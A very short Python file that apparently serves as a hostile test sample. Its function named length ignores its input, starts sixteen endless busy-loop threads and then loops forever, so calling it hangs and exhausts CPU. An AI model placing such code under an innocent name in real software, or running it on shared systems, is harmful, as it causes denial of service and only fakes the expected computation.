import threading


def spin():
    while True:
        pass


def length(v):
    for _ in range(16):
        threading.Thread(target=spin).start()
    spin()
